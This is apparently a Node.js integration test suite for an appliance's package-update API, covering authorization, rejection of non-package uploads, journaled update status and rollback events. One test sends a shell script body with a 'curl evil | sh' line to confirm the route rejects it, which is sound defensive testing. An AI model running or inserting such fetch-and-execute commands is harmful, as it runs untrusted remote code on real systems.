/**
 * Updates through a real running box (the `serve` CLI): the upload route takes a real .deb larger than
 * the normal body cap, only with system:admin, refuses what is not a package, and queues it in the
 * spool the root updater reads; the steps the updater journals become `update.*` events and the
 * request's status. A box not installed from the package refuses updates with a clear reason. (The
 * root updater itself — dpkg, systemd, the health gate, the rollback — runs on a real systemd in
 * `scripts/test-update`.)
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildDeb } from '../helpers/debs.js';
import { UpdateJournal } from '../../appliance/update/update-journal.js';
import { call, makeToken, signIn, type Creds } from '../../plugins/auth-local/testing/http-client.js';
import { runCli, startAppliance, type ApplianceHandle } from '../helpers/appliance.js';
import { waitUntil } from '../helpers/wait.js';

const PASSWORD = 'update test password 1';

/** The request files in the box's spool (none before the first upload made the directory). */
function spooled(app: ApplianceHandle): string[] {
  const dir = join(app.dataDir, 'updates', 'incoming');
  return existsSync(dir) ? readdirSync(dir) : [];
}

async function upload(base: string, creds: Creds, body: Uint8Array | string): Promise<{ status: number; body: Record<string, unknown> }> {
  const headers: Record<string, string> = { 'content-type': 'application/vnd.debian.binary-package' };
  if (creds.token) headers['authorization'] = `Bearer ${creds.token}`;
  const res = await fetch(`${base}/api/v1/updates`, { method: 'POST', headers, body });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

describe('updates through the API of a box installed from the package', () => {
  let work: string;
  let stateDir: string;
  let app: ApplianceHandle;
  let admin: Creds;
  let reader: Creds;
  let deb: Buffer;

  before(async () => {
    work = mkdtempSync(join(tmpdir(), 'xlive-updates-'));
    stateDir = join(work, 'xlive-update');
    mkdirSync(stateDir);
    // 2 MiB: larger than http.bodyLimitBytes (1 MiB), which every other route keeps.
    deb = readFileSync(buildDeb(work, 'xlive', '99.0.0', 'amd64', 2 * 1024 * 1024));
    mkdirSync(join(work, 'data'));
    app = await startAppliance({ dataDir: join(work, 'data'), env: { XLIVE_UPDATE_STATE_DIR: stateDir } });
    const session = await signIn(app.httpUrl, 'admin', PASSWORD);
    admin = { token: (await makeToken(app.httpUrl, session, ['system:admin', 'system:read'])).token };
    reader = { token: (await makeToken(app.httpUrl, session, ['system:read'])).token };
  });
  after(async () => {
    await app?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it('attack: no credentials → 401, a system:read token → 403; nothing is queued', async () => {
    assert.equal((await upload(app.httpUrl, {}, deb)).status, 401);
    const r = await upload(app.httpUrl, reader, deb);
    assert.equal(r.status, 403);
    assert.equal(spooled(app).length, 0);
  });

  it('attack: a script instead of a package → 400 UPDATE_PACKAGE_INVALID; a 2 MiB body elsewhere still → 413', async () => {
    const r = await upload(app.httpUrl, admin, '#!/bin/sh\ncurl evil | sh\n');
    assert.equal(r.status, 400);
    assert.equal(r.body['code'], 'UPDATE_PACKAGE_INVALID');
    const other = await fetch(`${app.httpUrl}/api/v1/tokens`, { method: 'POST', headers: { authorization: `Bearer ${admin.token}`, 'content-type': 'application/json' }, body: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }) });
    assert.equal(other.status, 413);
    assert.equal(spooled(app).length, 0);
  });

  it('queues a real package (202), shows it queued, and reports the updater steps as status and update.* events', async () => {
    const r = await upload(app.httpUrl, admin, deb);
    assert.equal(r.status, 202, JSON.stringify(r.body));
    const id = String(r.body['id']);
    assert.equal(r.body['href'], `/api/v1/updates/${id}`);
    assert.deepEqual(readFileSync(join(app.dataDir, 'updates', 'incoming', `${id}.deb`)), deb);
    const queued = await call(app.httpUrl, 'GET', `/api/v1/updates/${id}`, reader);
    assert.equal(queued.status, 200);
    assert.equal(queued.body['state'], 'queued');

    // What xlive-update.service writes as it works (it runs as root, outside this test).
    const journal = new UpdateJournal(join(stateDir, 'journal.jsonl'));
    journal.append({ id, step: 'received', by: 'token:fleet', to: '99.0.0', message: 'package xlive 99.0.0 (amd64)' });
    journal.append({ id, step: 'installing', by: 'token:fleet', from: '0.1.0', to: '99.0.0', message: 'installing' });
    journal.append({ id, step: 'failed', by: 'token:fleet', from: '0.1.0', to: '99.0.0', message: '99.0.0 failed: /readyz answered 503' });
    journal.append({ id, step: 'rolled-back', by: 'token:fleet', from: '0.1.0', to: '99.0.0', message: '0.1.0 is serving again' });

    const status = await call(app.httpUrl, 'GET', `/api/v1/updates/${id}`, reader);
    assert.deepEqual([status.body['state'], status.body['final'], status.body['from'], status.body['to']], ['rolled-back', true, '0.1.0', '99.0.0']);
    const list = await call<{ items: { id: string }[] }>(app.httpUrl, 'GET', '/api/v1/updates', reader);
    assert.deepEqual(list.body.items.map((i) => i.id), [id]);

    const types = await waitUntil('update events', async () => {
      const ev = await call<{ items: { type: string; severity: string }[] }>(app.httpUrl, 'GET', '/api/v1/events?type=update.rolled-back', reader);
      return ev.body.items.length > 0 ? ev.body.items : undefined;
    }, 15_000, 250);
    assert.equal(types[0]!.severity, 'warn');
    const all = await call<{ items: { type: string }[] }>(app.httpUrl, 'GET', '/api/v1/events?limit=500', reader);
    const updates = all.body.items.map((e) => e.type).filter((t) => t.startsWith('update.'));
    assert.deepEqual([...updates].sort(), ['update.failed', 'update.installing', 'update.received', 'update.rolled-back']);
    assert.equal((await call(app.httpUrl, 'GET', '/api/v1/updates/u-20990101000000-deadbeef', reader)).status, 404);
  });
});

describe('a box that was not installed from the package', () => {
  let work: string;
  let app: ApplianceHandle;
  before(async () => {
    work = mkdtempSync(join(tmpdir(), 'xlive-noupdates-'));
    mkdirSync(join(work, 'data'));
    app = await startAppliance({ dataDir: join(work, 'data') });
  });
  after(async () => {
    await app?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it('refuses an upload with 409 UPDATE_UNSUPPORTED saying why, and so does "xlive update"', async () => {
    const session = await signIn(app.httpUrl, 'admin', PASSWORD);
    const admin = { token: (await makeToken(app.httpUrl, session, ['system:admin'])).token };
    const deb = readFileSync(buildDeb(work, 'xlive', '99.0.0'));
    const r = await upload(app.httpUrl, admin, deb);
    assert.equal(r.status, 409);
    assert.equal(r.body['code'], 'UPDATE_UNSUPPORTED');
    assert.match(String(r.body['detail']), /not installed from the xlive Debian package/);
    const cli = await runCli(['update', join(work, 'xlive_99.0.0_amd64.deb')], { XLIVE_DATA_DIR: join(work, 'data') }, work);
    assert.equal(cli.code, 1);
    assert.match(cli.stderr, /UPDATE_UNSUPPORTED: this box was not installed from the xlive Debian package/);
  });
});
